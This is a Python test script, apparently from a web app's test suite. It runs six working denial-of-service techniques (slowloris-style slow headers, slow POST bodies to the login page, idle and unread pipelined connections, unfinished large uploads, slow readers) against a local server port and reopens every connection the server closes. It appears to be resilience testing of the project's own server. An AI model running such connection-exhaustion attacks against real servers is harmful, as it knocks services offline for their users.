"""Six ways to hold a server up, each from an address of its own: python -m tests.hostile_sockets.attacks PORT [WAY…]

Runs until it is ended, and opens again what the server closes. Needs nothing but Python.
"""

from __future__ import annotations

import asyncio
import contextlib
import resource
import socket
import sys
from collections.abc import Awaitable, Callable
from typing import Final

PATH: Final = "/static/seatkeeper/vendor/tabler.min.css"  # the largest file that needs no sign-in
GET: Final = f"GET {PATH} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
POST: Final = b"POST /accounts/login/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 16000000\r\n\r\n"
PAUSE: Final = 0.5  # seconds until a connection that was closed is opened again

Connection = socket.socket


async def pipelined(connection: Connection) -> None:
    """Asks for much and reads nothing."""
    await _send(connection, GET * 36)
    await _until_closed(connection)


async def slow_headers(connection: Connection) -> None:
    await _send(connection, b"GET / HTTP/1.1\r\nX-A: ")
    await _drip(connection, 3)


async def slow_bodies(connection: Connection) -> None:
    await _send(connection, POST)
    await _drip(connection, 3)


async def idle(connection: Connection) -> None:
    await _until_closed(connection)


async def unfinished(connection: Connection) -> None:
    """Almost a whole body, and then nothing."""
    await _send(connection, POST)
    for _ in range(243):
        await _send(connection, bytes(65536))
    await _until_closed(connection)


async def slow_readers(connection: Connection) -> None:
    await _send(connection, GET)
    while await asyncio.get_running_loop().sock_recv(connection, 64):
        await asyncio.sleep(1)


WAYS: Final = {
    "pipelined": (pipelined, 16),
    "slow_headers": (slow_headers, 420),
    "slow_bodies": (slow_bodies, 100),
    "idle": (idle, 2000),
    "unfinished": (unfinished, 30),
    "slow_readers": (slow_readers, 60),
}


async def _send(connection: Connection, data: bytes) -> None:
    await asyncio.get_running_loop().sock_sendall(connection, data)


async def _drip(connection: Connection, seconds: float) -> None:
    while True:
        await asyncio.sleep(seconds)
        await _send(connection, b"x")


async def _until_closed(connection: Connection) -> None:
    """Without reading: the server's answer stays where it is."""
    while True:
        await asyncio.sleep(1)
        with contextlib.suppress(BlockingIOError):
            if connection.recv(1, socket.MSG_PEEK) == b"":
                return
        if connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            return


async def _again_and_again(way: Callable[[Connection], Awaitable[None]], source: str, port: int) -> None:
    while True:
        with contextlib.suppress(OSError), socket.socket() as connection:
            connection.setblocking(False)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.bind((source, 0))
            await asyncio.get_running_loop().sock_connect(connection, ("127.0.0.1", port))
            await way(connection)
        await asyncio.sleep(PAUSE)


async def main(port: int, names: list[str]) -> None:
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    everything = []
    for place, (name, (way, count)) in enumerate(WAYS.items()):
        if name in names or not names:
            everything += [_again_and_again(way, f"127.0.0.{10 + place}", port) for _ in range(count)]
    await asyncio.gather(*everything)


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), sys.argv[2:]))
